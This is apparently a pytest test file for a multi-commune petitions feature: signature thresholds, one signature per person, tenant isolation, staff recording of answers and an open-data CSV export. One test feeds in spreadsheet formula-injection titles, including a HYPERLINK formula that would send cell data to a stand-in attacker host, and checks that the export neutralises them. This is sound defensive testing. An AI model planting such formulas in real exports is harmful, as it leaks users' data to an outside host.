"""Petitions and the right of interpellation (scenario S28), through HTTP as residents and
staff use them: thresholds from the commune's own rules, one signature per person, refusals
that store nothing, the commune's administrators told when a level is crossed."""

from __future__ import annotations

import csv
import io
import os
import re
import time
import tomllib
from datetime import date, datetime, timedelta
from email.header import decode_header, make_header
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import tomli_w
from babel.dates import format_date
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from agora.assembly.bodies import add_person
from agora.db import PARIS, utcnow
from agora.extensions import db
from agora.petitions import services
from agora.petitions.models import Petition, PetitionSignature, PetitionStatus
from agora.shared.people import Person
from agora.tenancy.isolation import tenant_scope
from agora.tenancy.models import Tenant
from support.fixtures import SignIn
from support.pages import page_text
from support.smtp import Inbox

POITIERS = {"Host": "poitiers.localhost"}
GRENOBLE = {"Host": "grenoble.localhost"}
ATTESTS = {"lives_here": "yes", "old_enough": "yes"}


def _staff(petition_id: int, **fields: str) -> dict[str, str]:
    """A staff form's fields, named after their petition (several share the admin page)."""
    return {f"petition-{petition_id}-{name}": value for name, value in fields.items()}


@pytest.fixture
def mayor(app: Flask, onboarded: Path, sign_in: SignIn) -> FlaskClient:
    """Poitiers' commune administrator, signed in."""
    client = app.test_client()
    sign_in(
        client, "poitiers.localhost", "mairie@poitiers.fr", role="commune_admin", commune="poitiers"
    )
    return client


def _open(client: FlaskClient, host: dict[str, str], title: str = "Des bancs place d'Armes") -> int:
    response = client.post(
        "/petitions",
        data={"title": title, "text": "Nous demandons des bancs à l'ombre."},
        headers=host,
    )
    assert response.status_code == 302, page_text(response)
    found = re.search(r"/petitions/(\d+)$", response.headers["Location"])
    assert found, response.headers["Location"]
    return int(found.group(1))


def _tenant_id(app: Flask, slug: str) -> int:
    with app.app_context():
        return int(db.session.execute(select(Tenant.id).where(Tenant.slug == slug)).scalar_one())


def _seed(app: Flask, slug: str, petition_id: int, count: int) -> None:
    """``count`` residents sign through the service (the last signatures go through HTTP)."""
    with app.app_context():
        tenant = db.session.execute(select(Tenant).where(Tenant.slug == slug)).scalar_one()
        with tenant_scope(db.session, tenant.id):
            petition = db.session.get(Petition, (tenant.id, petition_id))
            assert petition is not None
            for index in range(count):
                person = add_person(db.session, tenant, f"Habitant {index}")
                services.sign(
                    db.session, tenant, petition, person, lives_here=True, old_enough=True
                )
        db.session.commit()


def _petition(app: Flask, slug: str, petition_id: int) -> tuple[Petition, int]:
    """The petition as stored, and its signature rows counted."""
    tenant_id = _tenant_id(app, slug)
    with app.app_context(), tenant_scope(db.session, tenant_id):
        petition = db.session.get(Petition, (tenant_id, petition_id))
        assert petition is not None
        rows = db.session.execute(
            select(func.count()).where(
                PetitionSignature.tenant_id == tenant_id,
                PetitionSignature.petition_id == petition_id,
            )
        ).scalar_one()
        db.session.expunge(petition)
        return petition, int(rows)


def _signed_by(
    app: Flask, client: FlaskClient, sign_in: SignIn, signatures: int
) -> tuple[int, date]:
    """A Poitiers petition opened by Camille and signed ``signatures`` times; its id and the
    day it opened (in Paris)."""
    sign_in(client, "poitiers.localhost", "camille@example.fr")
    petition_id = _open(client, POITIERS)
    _seed(app, "poitiers", petition_id, signatures)
    opened = _petition(app, "poitiers", petition_id)[0].opened_at.astimezone(PARIS).date()
    return petition_id, opened


def _subjects(inbox: Inbox) -> list[str]:
    return sorted(
        str(make_header(decode_header(str(m["Subject"])))).replace("\r\n", "")
        for m in inbox.messages
    )


def test_s28_912_signatures_put_the_petition_on_the_council_agenda_and_tell_the_admin(
    app: Flask, mayor: FlaskClient, sign_in: SignIn, inbox: Inbox
) -> None:
    resident = app.test_client()
    sign_in(resident, "poitiers.localhost", "autrice@example.fr")
    assert resident.get("/petitions/new", headers=POITIERS).status_code == 200
    petition_id = _open(resident, POITIERS)
    _seed(app, "poitiers", petition_id, 890)
    petition, _rows = _petition(app, "poitiers", petition_id)
    assert (petition.status, petition.signature_count) == (PetitionStatus.THRESHOLD_REACHED, 890)

    for index in range(22):
        sign_in(resident, "poitiers.localhost", f"habitant{index}@example.fr")
        response = resident.post(f"/petitions/{petition_id}/sign", data=ATTESTS, headers=POITIERS)
        assert response.status_code == 302, page_text(response)
        petition, _rows = _petition(app, "poitiers", petition_id)
        expected = (
            PetitionStatus.ON_COUNCIL_AGENDA if index >= 9 else PetitionStatus.THRESHOLD_REACHED
        )
        assert petition.status == expected, index  # the 900th signature is the 10th here

    petition, rows = _petition(app, "poitiers", petition_id)
    assert (petition.signature_count, rows) == (912, 912)
    assert petition.levels_reached["conseil"]["signatures"] == 900
    assert "referendum" not in petition.levels_reached
    page = page_text(resident.get(f"/petitions/{petition_id}", headers=POITIERS))
    assert "Statut : inscrite à l'ordre du jour du conseil" in page
    assert "912 signatures sur 4 500 pour le prochain seuil" in page
    assert "Vous avez signé cette pétition" in page
    listing = page_text(resident.get("/petitions", headers=POITIERS))
    # The list says what the count is measured against, as the petition's page does.
    assert (
        "Des bancs place d'Armes inscrite à l'ordre du jour du conseil 912 "
        "sur 4 500 pour le prochain seuil"
    ) in listing

    # The commune's administrator is told, on their page and by mail, at each level.
    notifications = page_text(mayor.get("/notifications", headers=POITIERS))
    assert "Pétition : 900 signatures atteintes" in notifications
    assert "Inscription à l'ordre du jour du conseil municipal" in notifications
    assert [str(m["To"]) for m in inbox.messages] == ["mairie@poitiers.fr"] * 2
    assert _subjects(inbox) == [
        "Poitiers — Pétition\u00a0: 50 signatures atteintes",
        "Poitiers — Pétition\u00a0: 900 signatures atteintes",
    ]
    # Signers are not named anywhere public, and no e-mail address is shown.
    assert "habitant3@example.fr" not in page and "Habitant 3" not in page


def test_a_second_signature_is_refused_and_stored_once(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "poitiers.localhost", "camille@example.fr")
    petition_id = _open(client, POITIERS)
    first = client.post(f"/petitions/{petition_id}/sign", data=ATTESTS, headers=POITIERS)
    assert first.status_code == 302
    second = client.post(f"/petitions/{petition_id}/sign", data=ATTESTS, headers=POITIERS)
    assert second.status_code == 409
    refusal = "Vous avez déjà signé cette pétition : chaque personne signe une fois."
    assert refusal in page_text(second)
    petition, rows = _petition(app, "poitiers", petition_id)
    assert (petition.signature_count, rows) == (1, 1)


def test_the_database_refuses_a_second_signature_by_itself(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "poitiers.localhost", "camille@example.fr")
    petition_id = _open(client, POITIERS)
    signed = client.post(f"/petitions/{petition_id}/sign", data=ATTESTS, headers=POITIERS)
    assert signed.status_code == 302, page_text(signed)
    assert signed.headers["Location"].endswith(f"/petitions/{petition_id}#signed")
    page = page_text(client.get(f"/petitions/{petition_id}", headers=POITIERS))
    assert "Vous avez signé cette pétition. Merci." in page
    tenant_id = _tenant_id(app, "poitiers")
    with app.app_context(), tenant_scope(db.session, tenant_id):
        signature = db.session.execute(select(PetitionSignature)).scalar_one()
        db.session.add(
            PetitionSignature(
                tenant_id=tenant_id, petition_id=petition_id, person_id=signature.person_id
            )
        )
        try:
            db.session.flush()
        except Exception as error:  # the driver's IntegrityError
            assert "unique" in str(error).lower()
        else:
            raise AssertionError("a second signature row was accepted")
        finally:
            db.session.rollback()


def test_signing_after_the_window_is_refused(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "poitiers.localhost", "camille@example.fr")
    petition_id = _open(client, POITIERS)
    petition, _rows = _petition(app, "poitiers", petition_id)
    # Opened under Poitiers' rules: six months to collect signatures.
    assert petition.closes_at == services.add_months(petition.opened_at, 6)
    assert timedelta(days=180) <= petition.closes_at - petition.opened_at <= timedelta(days=185)
    tenant_id = _tenant_id(app, "poitiers")
    with app.app_context(), tenant_scope(db.session, tenant_id):
        stored = db.session.get(Petition, (tenant_id, petition_id))
        assert stored is not None
        stored.opened_at = utcnow() - timedelta(days=200)
        stored.closes_at = closes_at = utcnow() - timedelta(days=1)
        db.session.commit()
    refused = client.post(f"/petitions/{petition_id}/sign", data=ATTESTS, headers=POITIERS)
    assert refused.status_code == 409
    assert "La période de signature de cette pétition s'est terminée le" in page_text(refused)
    petition, rows = _petition(app, "poitiers", petition_id)
    assert (petition.signature_count, rows) == (0, 0)
    page = page_text(client.get(f"/petitions/{petition_id}", headers=POITIERS))
    assert "Statut : close" in page and "Cette pétition ne peut plus être signée." in page
    closed_on = format_date(closes_at.astimezone(PARIS).date(), "long", locale="fr")
    assert f"Signatures closes le {closed_on}" in page
    assert "la commune a répondu" not in page


def test_a_missing_declaration_is_refused_and_nothing_is_stored(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "poitiers.localhost", "autrice@example.fr")
    petition_id = _open(client, POITIERS)
    camille = sign_in(client, "poitiers.localhost", "camille@example.fr")
    no_residence = client.post(
        f"/petitions/{petition_id}/sign", data={"old_enough": "yes"}, headers=POITIERS
    )
    assert no_residence.status_code == 422
    assert "Pour signer, déclarez que vous habitez Poitiers." in page_text(no_residence)
    no_age = client.post(
        f"/petitions/{petition_id}/sign", data={"lives_here": "yes"}, headers=POITIERS
    )
    assert no_age.status_code == 422
    assert "Pour signer, déclarez que vous avez 16 ans ou plus." in page_text(no_age)
    petition, rows = _petition(app, "poitiers", petition_id)
    assert (petition.signature_count, rows) == (0, 0)
    # The refused signer was not even recorded as a participant.
    tenant_id = _tenant_id(app, "poitiers")
    with app.app_context(), tenant_scope(db.session, tenant_id):
        assert not db.session.execute(
            select(Person.id).where(Person.tenant_id == tenant_id, Person.account_id == camille)
        ).all()
    form = client.get(f"/petitions/{petition_id}", headers=POITIERS).get_data(as_text=True)
    assert 'name="lives_here"' in form and 'name="old_enough"' in form


def test_another_communes_petition_is_not_found(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "grenoble.localhost", "grenoblois@example.fr")
    grenoble_petition = _open(client, GRENOBLE, "Des pistes cyclables cours Jean-Jaurès")
    sign_in(client, "poitiers.localhost", "poitevin@example.fr")
    seen = client.get(f"/petitions/{grenoble_petition}", headers=POITIERS)
    missing = client.get("/petitions/9", headers=POITIERS)
    assert seen.status_code == missing.status_code == 404
    assert page_text(seen) == page_text(missing)
    signed = client.post(f"/petitions/{grenoble_petition}/sign", data=ATTESTS, headers=POITIERS)
    assert signed.status_code == 404
    assert _petition(app, "grenoble", grenoble_petition)[1] == 0
    assert "cours Jean-Jaurès" not in page_text(client.get("/petitions", headers=POITIERS))
    assert "cours Jean-Jaurès" in page_text(client.get("/petitions", headers=GRENOBLE))


def test_a_commune_without_the_plugin_has_no_petitions(
    client: FlaskClient, runner: Any, tenant_files: Path, sign_in: SignIn
) -> None:
    path = tenant_files / "grenoble.toml"
    document = tomllib.loads(path.read_text(encoding="utf-8"))
    del document["plugins"]["interpellation_rights"]
    path.write_text(tomli_w.dumps(document), encoding="utf-8")
    assert runner.invoke(args=["tenants", "apply", str(tenant_files)]).exit_code == 0
    visitor = client.application.test_client()
    # Missing for everyone: an anonymous visitor is not first sent to sign in.
    for method, url in (("GET", "/petitions"), ("GET", "/petitions/new"), ("POST", "/petitions")):
        response = visitor.open(url, method=method, data=ATTESTS, headers=GRENOBLE)
        assert response.status_code == 404, url
        assert "Cette commune n'a pas de pétitions" in page_text(response)
    sign_in(
        client, "grenoble.localhost", "admin@grenoble.fr", role="commune_admin", commune="grenoble"
    )
    for method, url in (
        ("GET", "/petitions"),
        ("GET", "/petitions/new"),
        ("POST", "/petitions"),
        ("GET", "/petitions/1"),
        ("POST", "/petitions/1/sign"),
        ("GET", "/petitions.csv"),
        ("GET", "/admin/petitions"),
    ):
        response = client.open(url, method=method, data=ATTESTS, headers=GRENOBLE)
        assert response.status_code == 404, url
        assert "Cette commune n'a pas de pétitions" in page_text(response)
    assert "/admin/petitions" not in client.get("/", headers=GRENOBLE).get_data(as_text=True)
    assert client.get("/petitions", headers=POITIERS).status_code == 200
    assert 'href="/petitions"' not in client.get("/", headers=GRENOBLE).get_data(as_text=True)
    assert 'href="/petitions"' in client.get("/", headers=POITIERS).get_data(as_text=True)


def test_thresholds_come_from_each_communes_rules(
    app: Flask, client: FlaskClient, runner: Any, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "grenoble.localhost", "grenoblois@example.fr")
    grenoble = _open(client, GRENOBLE)
    sign_in(client, "poitiers.localhost", "poitevin@example.fr")
    poitiers = _open(client, POITIERS)
    _seed(app, "grenoble", grenoble, 900)
    _seed(app, "poitiers", poitiers, 900)
    assert _petition(app, "poitiers", poitiers)[0].status == PetitionStatus.ON_COUNCIL_AGENDA
    stored, _rows = _petition(app, "grenoble", grenoble)
    # Grenoble: one level, at 2,000 signatures within twelve months.
    assert (stored.status, stored.levels_reached) == (PetitionStatus.OPEN, {})
    assert services.add_months(stored.opened_at, 12) == stored.closes_at
    page = page_text(client.get(f"/petitions/{grenoble}", headers=GRENOBLE))
    assert "900 signatures sur 2 000 pour le prochain seuil" in page
    assert "Débat en conseil municipal, puis votation citoyenne" in page

    # A change of Poitiers' rules applies to petitions opened afterwards only.
    path = onboarded / "poitiers.toml"
    document = tomllib.loads(path.read_text(encoding="utf-8"))
    document["plugins"]["interpellation_rights"]["levels"][1]["signatures"] = 1000
    path.write_text(tomli_w.dumps(document), encoding="utf-8")
    assert runner.invoke(args=["tenants", "apply", str(path)]).exit_code == 0
    later = _open(client, POITIERS, "Un second marché")
    _seed(app, "poitiers", later, 900)
    assert _petition(app, "poitiers", later)[0].status == PetitionStatus.THRESHOLD_REACHED
    assert _petition(app, "poitiers", poitiers)[0].status == PetitionStatus.ON_COUNCIL_AGENDA
    later_page = client.get(f"/petitions/{later}", headers=POITIERS)
    assert "900 signatures sur 1 000" in page_text(later_page)


def test_levels_must_rise_in_the_communes_file(runner: Any, tenant_files: Path) -> None:
    path = tenant_files / "poitiers.toml"
    document = tomllib.loads(path.read_text(encoding="utf-8"))
    document["plugins"]["interpellation_rights"]["levels"][2]["signatures"] = 800
    document["plugins"]["interpellation_rights"]["levels"][0]["effect"] = "lunch"
    path.write_text(tomli_w.dumps(document), encoding="utf-8")
    result = runner.invoke(args=["tenants", "apply", str(path)])
    assert result.exit_code != 0
    assert "plugins.interpellation_rights.levels[0].effect" in result.output
    document["plugins"]["interpellation_rights"]["levels"][0]["effect"] = "meeting"
    path.write_text(tomli_w.dumps(document), encoding="utf-8")
    result = runner.invoke(args=["tenants", "apply", str(path)])
    assert result.exit_code != 0
    assert "plugins.interpellation_rights.levels[2].signatures" in result.output
    assert "levels rise" in result.output


def test_staff_record_the_meeting_the_council_and_the_public_answer(
    app: Flask, client: FlaskClient, mayor: FlaskClient, sign_in: SignIn
) -> None:
    sign_in(client, "poitiers.localhost", "camille@example.fr")
    petition_id = _open(client, POITIERS)
    admin = mayor.get("/admin/petitions", headers=POITIERS)
    assert admin.status_code == 200 and "Des bancs place d'Armes" in page_text(admin)
    # Nothing to record before a threshold is reached.
    early = mayor.post(
        f"/admin/petitions/{petition_id}/council",
        data=_staff(petition_id, session_on="2030-01-15"),
        headers=POITIERS,
    )
    assert early.status_code == 409
    assert "n'a pas atteint le seuil" in page_text(early)
    _seed(app, "poitiers", petition_id, 900)
    # A resident may not record anything.
    forbidden = client.post(
        f"/admin/petitions/{petition_id}/meeting",
        data=_staff(petition_id, held_on="2020-01-01"),
        headers=POITIERS,
    )
    assert forbidden.status_code == 403
    today = datetime.now(PARIS).date().isoformat()
    for path, data in (
        ("meeting", _staff(petition_id, held_on=today)),
        ("council", _staff(petition_id, session_on="2030-01-15")),
    ):
        done = mayor.post(f"/admin/petitions/{petition_id}/{path}", data=data, headers=POITIERS)
        assert done.status_code == 302, page_text(done)
    no_answer = mayor.post(
        f"/admin/petitions/{petition_id}/decision",
        data=_staff(petition_id, decided_on=today, answer=" "),
        headers=POITIERS,
    )
    assert no_answer.status_code == 422
    answer = "Le conseil installe vingt bancs ombragés d'ici l'été."
    # The answer is irreversible: a confirmation page first, which writes nothing.
    asked = mayor.post(
        f"/admin/petitions/{petition_id}/decision",
        data=_staff(petition_id, decided_on=today, answer=answer),
        headers=POITIERS,
    )
    assert asked.status_code == 200
    confirmation = asked.get_data(as_text=True)
    assert 'name="confirmed" value="yes"' in confirmation
    assert (
        f'name="petition-{petition_id}-answer" value="{answer}"'.replace("'", "&#39;")
        in confirmation
    )
    assert "Statut : réponse donnée" not in page_text(
        client.get(f"/petitions/{petition_id}", headers=POITIERS)
    )
    decided = mayor.post(
        f"/admin/petitions/{petition_id}/decision",
        data={**_staff(petition_id, decided_on=today, answer=answer), "confirmed": "yes"},
        headers=POITIERS,
    )
    assert decided.status_code == 302
    page = page_text(client.get(f"/petitions/{petition_id}", headers=POITIERS))
    assert "Statut : réponse donnée" in page
    # Answered within its window: the answer closed the signatures, not a date to come.
    answered_on = format_date(datetime.now(PARIS).date(), "long", locale="fr")
    assert f"Signatures closes : la commune a répondu le {answered_on}." in page
    assert "Signatures closes le" not in page
    assert "À l'ordre du jour du conseil municipal du 15 janvier 2030." in page
    assert answer in page
    # The author (and every signer) is told; no more signatures once answered.
    assert "La commune a répondu à la pétition" in page_text(
        client.get("/notifications", headers=POITIERS)
    )
    late = client.post(f"/petitions/{petition_id}/sign", data=ATTESTS, headers=POITIERS)
    assert late.status_code == 409
    journal = page_text(client.get("/journal", headers=POITIERS))
    assert "Réponse donnée à une pétition" in journal


def test_staff_dates_start_at_the_opening_and_end_today_in_paris(
    app: Flask, client: FlaskClient, mayor: FlaskClient, sign_in: SignIn
) -> None:
    petition_id, opened = _signed_by(app, client, sign_in, 50)
    the_day_before = (opened - timedelta(days=1)).isoformat()
    opened_fr = format_date(opened, "long", locale="fr")
    early_meeting = mayor.post(
        f"/admin/petitions/{petition_id}/meeting",
        data=_staff(petition_id, held_on=the_day_before),
        headers=POITIERS,
    )
    assert early_meeting.status_code == 422
    assert (
        f"La rencontre ne peut pas être datée d'avant l'ouverture de la pétition, le {opened_fr}."
        in page_text(early_meeting)
    )
    early_answer = mayor.post(
        f"/admin/petitions/{petition_id}/decision",
        data=_staff(petition_id, decided_on=the_day_before, answer="Vingt bancs."),
        headers=POITIERS,
    )
    assert early_answer.status_code == 422
    assert (
        f"La réponse ne peut pas être datée d'avant l'ouverture de la pétition, le {opened_fr}."
        in page_text(early_answer)
    )
    petition, _rows = _petition(app, "poitiers", petition_id)
    assert (petition.meeting_held_on, petition.decided_on) == (None, None)
    assert petition.status == PetitionStatus.THRESHOLD_REACHED

    # The date fields run from the opening to today in Paris, whatever the server's own
    # zone: one of these two is on another day than Paris at any moment.
    paris_today = datetime.now(PARIS).date()
    zone = next(
        name
        for name in ("Etc/GMT+12", "Pacific/Kiritimati")
        if datetime.now(ZoneInfo(name)).date() != paris_today
    )
    before = os.environ.get("TZ")
    os.environ["TZ"] = zone
    time.tzset()
    try:
        assert date.today() != paris_today
        form = mayor.get("/admin/petitions", headers=POITIERS).get_data(as_text=True)
    finally:
        if before is None:
            del os.environ["TZ"]
        else:
            os.environ["TZ"] = before
        time.tzset()
    for field in ("held_on", "decided_on"):
        tag = re.search(rf'<input[^>]*name="petition-{petition_id}-{field}"[^>]*>', form)
        assert tag, form
        found = re.search(r'min="([\d-]+)"[^>]*max="([\d-]+)"', tag.group(0))
        assert found, form
        assert found.groups() == (opened.isoformat(), paris_today.isoformat())


def test_open_data_export(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "poitiers.localhost", "camille@example.fr")
    petition_id = _open(client, POITIERS)
    _seed(app, "poitiers", petition_id, 60)
    response = client.get("/petitions.csv", headers=POITIERS)
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeffpetition;titre;statut;")
    lines = body.strip().split("\r\n")
    assert len(lines) == 4  # a header, then one line per level of Poitiers' three
    reached = lines[1].split(";")
    assert reached[6:9] == ["rencontre", "50", "meeting"] and reached[10] == "50"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", reached[9])
    assert lines[2].split(";")[9] == ""
    assert "@" not in body


def test_a_title_that_a_spreadsheet_would_run_is_exported_as_text(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    sign_in(client, "poitiers.localhost", "camille@example.fr")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
    _open(client, POITIERS, formula)
    _open(client, POITIERS, "-1+1")
    _open(client, POITIERS, "@SUM(A1:A2)")
    _open(client, POITIERS, "Des bancs = de l'ombre")
    response = client.get("/petitions.csv", headers=POITIERS)
    assert response.status_code == 200
    body = response.get_data(as_text=True).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    titles = {row[1] for row in rows[1:]}
    # Excel and LibreOffice show a cell starting with ' as text and never run it.
    assert titles == {"'" + formula, "'-1+1", "'@SUM(A1:A2)", "Des bancs = de l'ombre"}
    # Numbers are left as they are.
    assert {(row[5], row[7]) for row in rows[1:]} == {("0", "50"), ("0", "900"), ("0", "4500")}


def test_signing_needs_an_account_and_the_form_is_in_english_too(
    app: Flask, client: FlaskClient, onboarded: Path, sign_in: SignIn
) -> None:
    author = app.test_client()
    sign_in(author, "poitiers.localhost", "autrice@example.fr")
    petition_id = _open(author, POITIERS)
    anonymous = client.post(f"/petitions/{petition_id}/sign", data=ATTESTS, headers=POITIERS)
    assert anonymous.status_code == 302 and anonymous.headers["Location"].startswith("/login")
    assert _petition(app, "poitiers", petition_id)[1] == 0
    english = page_text(author.get(f"/petitions/{petition_id}?lang=en", headers=POITIERS))
    assert "I declare that I live in Poitiers." in english
    assert "0 signatures out of 50 for the next threshold." in english


def test_a_council_session_cannot_be_dated_before_the_petition_opened(
    app: Flask, client: FlaskClient, mayor: FlaskClient, sign_in: SignIn
) -> None:
    petition_id, opened = _signed_by(app, client, sign_in, 900)
    refused = mayor.post(
        f"/admin/petitions/{petition_id}/council",
        data=_staff(petition_id, session_on=(opened - timedelta(days=1)).isoformat()),
        headers=POITIERS,
    )
    assert refused.status_code == 422
    assert (
        "La séance du conseil ne peut pas être datée d'avant l'ouverture de la pétition, le "
        f"{format_date(opened, 'long', locale='fr')}." in page_text(refused)
    )
    assert _petition(app, "poitiers", petition_id)[0].council_session_on is None
